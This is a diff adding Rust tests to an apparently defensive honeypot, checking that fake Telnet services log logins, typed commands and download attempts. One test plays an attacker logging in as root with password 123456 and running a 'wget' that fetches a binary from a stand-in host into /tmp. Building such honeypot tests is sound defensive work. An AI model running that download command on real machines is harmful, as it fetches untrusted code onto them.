@@ -363,3 +363,88 @@ async fn tftp_serves_decoys_and_captures_uploads_from_fresh_ports() {
     assert_eq!(up.fields["complete"], true);
     assert_eq!(of_kind(&events, "tftp.request").len(), 2);
 }
+
+/// Reads until `needle` shows up (or the peer closes), returning everything read.
+async fn read_until(s: &mut TcpStream, needle: &[u8]) -> Vec<u8> {
+    let mut got = Vec::new();
+    let mut buf = [0u8; 4096];
+    loop {
+        if got.windows(needle.len()).any(|w| w == needle) {
+            return got;
+        }
+        let n =
+            tokio::time::timeout(Duration::from_secs(10), s.read(&mut buf)).await.unwrap().unwrap();
+        if n == 0 {
+            return got;
+        }
+        got.extend_from_slice(&buf[..n]);
+    }
+}
+
+#[tokio::test]
+async fn telnet_negotiates_at_once_logs_in_and_records_downloads() {
+    let mut svc = service("Telnet", "TelnetUnix", &["tcp:0"]);
+    let shell: toml::Table =
+        toml::from_str("seed = 7\nhostname = \"web01\"\ndistro = \"debian12\"").unwrap();
+    svc.options.insert("shell".into(), toml::Value::Table(shell));
+    let pot = start(&[svc], Limits::default(), "127.0.0.1");
+    let mut s =
+        TcpStream::connect(pot.handle.addr("Telnet", Transport::Tcp).unwrap()).await.unwrap();
+    // Without sending anything, the negotiation and the prompt arrive.
+    let hello = read_until(&mut s, b"login: ").await;
+    assert!(hello.starts_with(b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"), "{hello:?}");
+    assert!(hello.ends_with(b"Debian GNU/Linux 12\r\nweb01 login: "));
+    // The client answers negotiation and types its name in one segment.
+    s.write_all(b"\xff\xfb\x18\xff\xfa\x18\x00xterm\xff\xf0root\r\n").await.unwrap();
+    let got = read_until(&mut s, b"Password: ").await;
+    assert!(got.windows(6).any(|w| w == b"root\r\n"), "user name echoed");
+    s.write_all(b"123456\r\n").await.unwrap();
+    read_until(&mut s, b"# ").await;
+    s.write_all(b"uname -a; wget http://198.51.100.7/bins/x86 -O /tmp/x\r\n").await.unwrap();
+    let out = read_until(&mut s, b"# ").await;
+    assert!(
+        String::from_utf8_lossy(&out).contains("Linux web01 "),
+        "{}",
+        String::from_utf8_lossy(&out)
+    );
+    s.write_all(b"exit\r\n").await.unwrap();
+    read_until(&mut s, b"\x00never").await;
+    pot.wait_for(&Kind::SESSION_CLOSE, 1).await;
+    let events = pot.finish().await;
+    let auth = of_kind(&events, "auth.attempt")[0].auth.clone().unwrap();
+    assert_eq!(
+        (auth.username.as_deref(), auth.password.as_deref(), auth.success),
+        (Some("root"), Some("123456"), true)
+    );
+    assert_eq!(auth.extra.get("terminal").map(String::as_str), Some("xterm"));
+    let dl = of_kind(&events, "download.attempt")[0].download.clone().unwrap();
+    assert_eq!(dl.url, "http://198.51.100.7/bins/x86");
+    assert!(of_kind(&events, "command.input").len() >= 2);
+}
+
+#[tokio::test]
+async fn telnet_windows_allows_three_attempts_then_closes() {
+    let pot = start(&[service("TW", "TelnetWindows", &["tcp:0"])], Limits::default(), "127.0.0.1");
+    let mut s = TcpStream::connect(pot.handle.addr("TW", Transport::Tcp).unwrap()).await.unwrap();
+    let hello = read_until(&mut s, b"login: ").await;
+    assert!(hello.starts_with(b"\xff\xfd\x25"));
+    assert!(hello.ends_with(b"Welcome to Microsoft Telnet Service \r\n\n\rlogin: "));
+    for i in 0..3 {
+        s.write_all(format!("Administrator\r\n").as_bytes()).await.unwrap();
+        read_until(&mut s, b"password: ").await;
+        s.write_all(format!("Passw0rd{i}\r\n").as_bytes()).await.unwrap();
+        let got = read_until(&mut s, b"Login Failed").await;
+        assert!(got.windows(12).any(|w| w == b"Login Failed"));
+    }
+    let rest = read_until(&mut s, b"\x00never").await;
+    assert!(!rest.windows(7).any(|w| w == b"login: "), "no fourth prompt");
+    pot.wait_for(&Kind::SESSION_CLOSE, 1).await;
+    let events = pot.finish().await;
+    let auths: Vec<_> =
+        of_kind(&events, "auth.attempt").into_iter().map(|e| e.auth.clone().unwrap()).collect();
+    assert_eq!(auths.len(), 3);
+    assert_eq!(
+        (auths[2].username.as_deref(), auths[2].password.as_deref()),
+        (Some("Administrator"), Some("Passw0rd2"))
+    );
+}
